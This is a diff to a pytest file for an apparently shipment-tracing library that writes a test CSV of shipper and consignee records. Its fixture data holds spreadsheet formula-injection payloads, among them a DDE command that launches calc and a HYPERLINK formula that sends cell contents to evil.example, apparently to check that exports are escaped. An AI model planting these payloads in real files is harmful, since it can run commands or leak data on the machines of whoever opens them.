@@ -13,6 +13,7 @@ import pytest
 CMD = "=cmd|' /C calc'!A0"
 HOSTILE_NAMES = [CMD, "+1 Trading Limited", "@SUM(1+1) Holdings Ltd", "-2 Quimica SA de CV"]
 MAKER = "Velora Chemical Co., Ltd."
+NOTIFY = "Harbor Link Logistics"  # no legal form in its name
 SHELL_ADDRESS = "Flat 5, 88 Nathan Road, Tsim Sha Tsui, Kowloon, Hong Kong"
 COLUMNS = ["record_id", "date", "shipper_name", "shipper_address", "shipper_country", "consignee_name",
            "consignee_address", "consignee_country", "notify_name", "hs_code", "description", "weight_kg",
@@ -41,6 +42,7 @@ def case_rows() -> list[dict]:
         ship(f"2023-0{i + 3}-10", shell, importer, "293339", '=HYPERLINK("http://evil.example/"&A1)', 25, 9000,
              "HONG KONG", "MANZANILLO", "CN")
     ship("2023-07-01", importer, buyer, "293339", "@CHEMICAL SAMPLE", 20, 15000, "MANZANILLO", "CULIACAN", "CN")
+    rows[-1]["notify_name"] = NOTIFY
     ship("2023-07-15", importer, buyer, "382499", "+INDUSTRIAL MIXTURE", 40, 3000, "MANZANILLO", "CULIACAN", "MX")
     for i in range(4):
         ship(f"2023-0{i + 1}-20", legit[0], legit[1], "392690", "PLASTIC FITTINGS", 1000 + i, 5000, "HAMBURG",
@@ -58,6 +60,7 @@ def write_case(path) -> None:
 def load_case(folder):
     import tracekit
 
+    folder.mkdir(parents=True, exist_ok=True)
     write_case(folder / "case.csv")
     ws = tracekit.Workspace(folder / "ws")
     ws.load(folder / "case.csv", mapping="generic", progress=False)
